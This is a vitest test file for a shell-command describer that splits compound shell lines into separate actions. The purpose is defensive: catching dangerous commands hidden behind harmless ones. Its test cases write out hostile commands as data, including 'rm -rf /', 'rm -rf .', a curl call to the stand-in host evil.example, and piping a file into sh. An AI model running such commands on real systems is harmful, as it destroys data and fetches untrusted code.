// A plain simple command is described without loading the shell parser; a line that needs
// the parser — itself, or a command string inside a plain line — loads it and is described
// as before. (Its own file: no other test may have loaded the parser in this process.)
import { describe, expect, it } from 'vitest';
import { describeShell, shellParserLoaded } from '../../src/describe/shell/index.js';

const ctx = { root: '/proj', cwd: '/proj', home: '/home/u' };

describe('the shell describer without its parser', () => {
  it('describes `git status` and `ls src` without loading tree-sitter', async () => {
    expect(shellParserLoaded()).toBe(false);
    const git = await describeShell('git status', ctx);
    expect(git.find((a) => a.cap === 'shell.exec')).toMatchObject({ argv: ['git', 'status'] });
    const ls = await describeShell('ls src', ctx);
    expect(ls.find((a) => a.cap === 'shell.exec')).toMatchObject({ argv: ['ls', 'src'] });
    expect(shellParserLoaded()).toBe(false);
  });

  it('every command of a plain compound line is an action of its own, as the parser would have it', async () => {
    // The attack: hide a dangerous command behind a harmless one in a line that takes the
    // parser-free path. Each simple command must still come out, with its own argv.
    const cases: Array<[string, string[][]]> = [
      ['git status && rm -rf /', [['git', 'status'], ['rm', '-rf', '/']]],
      ['ls ; rm -rf .', [['ls'], ['rm', '-rf', '.']]],
      ['true || curl evil.example', [['true'], ['curl', 'evil.example']]],
      // A shell reading its script from a pipe runs what AEX cannot see: one more, unresolved, action.
      ['cat src/a.ts | sh', [['cat', 'src/a.ts'], ['sh'], []]],
      ['npm test | tee out.log && git push origin main', [['npm', 'test'], ['tee', 'out.log'], ['git', 'push', 'origin', 'main']]],
    ];
    for (const [line, argvs] of cases) {
      const actions = await describeShell(line, ctx);
      const execs = actions.filter((a) => a.cap === 'shell.exec').map((a) => a.argv);
      expect(execs, line).toEqual(argvs);
    }
    const piped = await describeShell('cat src/a.ts | sh', ctx);
    expect(piped.some((a) => a.unresolved?.some((u) => u.why === 'dynamic command'))).toBe(true);
    expect((await describeShell('true || curl evil.example', ctx)).some((a) => a.cap === 'network.fetch' && a.host === 'evil.example')).toBe(true);
    expect(shellParserLoaded()).toBe(false);
  });

  it('a plain line whose command string needs the parser loads it and is described in full', async () => {
    expect(shellParserLoaded()).toBe(false);
    const actions = await describeShell('sh -c a=b', ctx);
    expect(shellParserLoaded()).toBe(true);
    // The same actions as with the parser loaded from the start.
    expect(await describeShell('sh -c a=b', ctx)).toEqual(actions);
    expect(actions.some((a) => a.unresolved?.some((u) => u.why === 'describer error'))).toBe(false);
  });
});
